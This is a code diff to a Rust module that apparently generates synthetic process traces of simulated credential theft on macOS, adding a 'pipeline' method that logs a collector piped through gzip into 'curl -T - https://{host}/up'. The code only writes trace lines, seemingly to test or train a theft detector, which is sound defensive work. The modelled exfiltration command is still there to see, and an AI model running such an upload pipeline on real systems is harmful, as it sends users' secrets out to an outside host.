@@ -1,6 +1,6 @@
 //! Acting out a plan as lines of a trace.
 
-use super::cast::{BASH, CP, LAUNCHD, LN, MV, PYTHON, Program, RM, SECURITY, TERMINAL, ZSH};
+use super::cast::{BASH, CP, CURL, GZIP, LAUNCHD, LN, MV, PYTHON, Program, RM, SECURITY, TERMINAL, ZSH};
 use super::random::Random;
 use super::scene::{Moment, SECOND, Scene, delay};
 use super::theft::{Break, Method, Step, Theft};
@@ -123,6 +123,7 @@ impl Play<'_> {
                 self.scene.say(self.now, &format!("exit {pid}"));
                 (String::new(), None)
             }
+            Method::Pipeline => self.pipeline(&operands, &staged),
             Method::Uploaded => (self.plan.stores[0].to_owned(), None),
             Method::Cloned => {
                 let pid = self.scene.spawn(self.now, self.shell, program, "agent --run");
@@ -143,9 +144,73 @@ impl Play<'_> {
         }
     }
 
+    /// `cat store | gzip | curl -T - url`, or `cat store | gzip > staged`: the members are made one after the other, and
+    /// run at the same time. Gives the staged file, or else the member that sends.
+    fn pipeline(&mut self, operands: &str, staged: &str) -> (String, Option<u32>) {
+        let stays = self.plan.archive && self.random.chance(40);
+        let group = self.scene.pid();
+        let host = self.plan.place.name;
+        let mut programs = vec![(self.plan.program, format!("collect {operands}"))];
+        if stays || self.random.chance(40) {
+            programs.push((GZIP, "gzip -c".to_owned()));
+        }
+        if !stays {
+            programs.push((CURL, format!("curl -T - https://{host}/up")));
+        }
+        if self.random.chance(15) {
+            programs.reverse();
+        }
+        let last = programs.len() - 1;
+        let (mut reader, mut sender) = (0, 0);
+        let reads_at_once = self.plan.output_first;
+        for (number, (program, argv)) in programs.into_iter().enumerate() {
+            let apart = self.plan.broken == Some(Break::Group) && number > 0;
+            let group = if apart { self.scene.pid() } else { group };
+            let pid = self.scene.pid();
+            // A shell with jobs gives the group after the fork, one without gives its own.
+            let early = if self.random.chance(50) { format!(" group={group}") } else { String::new() };
+            self.scene.say(self.now, &format!("fork {} -> {pid}{early}", self.shell));
+            if stays && number == last {
+                self.scene.say(self.now, &format!("create {pid} {staged}"));
+            }
+            let then = self.now + SECOND / 100;
+            self.scene.say(then, &format!("exec {pid} {} group={group} cwd=/Users/ana : {argv}", program.0));
+            if program == self.plan.program {
+                reader = pid;
+                if reads_at_once {
+                    self.now = then;
+                    self.read_stores(pid);
+                }
+            } else {
+                sender = pid;
+            }
+            self.now += self.random.pick(&[20, 20, 20, 900, 1_000, 1_980, 2_000, 2_001]) * SECOND / 1_000;
+        }
+        if !reads_at_once {
+            self.read_stores(reader);
+        }
+        if self.random.chance(70) {
+            self.tick();
+            self.scene.say(self.now, &format!("exit {reader}"));
+        }
+        if !stays {
+            return (String::new(), Some(sender));
+        }
+        self.tick();
+        self.scene.say(self.now, &format!("close {sender} {staged} modified size={}", self.plan.size));
+        self.scene.say(self.now, &format!("exit {sender}"));
+        (staged.to_owned(), None)
+    }
+
+    fn read_stores(&mut self, pid: u32) {
+        for store in self.plan.stores.clone() {
+            self.read(pid, store, 9_000);
+        }
+    }
+
     /// Moves the staged file along.
     fn move_on(&mut self, mut file: String) -> String {
-        if matches!(self.plan.method, Method::Direct | Method::Child | Method::Secret | Method::Uploaded | Method::Piped) {
+        if file.is_empty() || self.plan.method == Method::Uploaded {
             return file;
         }
         for (number, step) in self.plan.steps.iter().enumerate() {
